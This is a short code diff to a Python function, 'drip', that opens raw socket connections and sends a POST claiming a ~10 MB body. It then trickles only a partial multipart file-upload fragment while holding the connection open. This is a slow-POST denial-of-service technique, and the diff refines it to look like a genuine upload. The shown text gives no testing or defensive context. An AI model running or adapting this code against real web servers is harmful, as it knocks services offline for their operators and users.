@@ -102,7 +102,9 @@ def drip(url: str, course: Course, until: float) -> None:
     while time.monotonic() < until:
         with socket.create_connection((place.hostname, place.port), timeout=60) as slow:
             head = f"POST {SCORE} HTTP/1.1\r\nHost: {place.netloc}\r\nContent-Length: 9999999\r\n"
-            slow.sendall(f"{head}Content-Type: multipart/form-data; boundary=x\r\n\r\n".encode())
+            part = 'Content-Disposition: form-data; name="files"; filename="a.jpg"'
+            body = f"Content-Type: multipart/form-data; boundary=x\r\n\r\n--x\r\n{part}\r\n\r\n"
+            slow.sendall(f"{head}{body}".encode())
             slow.settimeout(0.5)
             answer = b""
             while not answer and time.monotonic() < until:
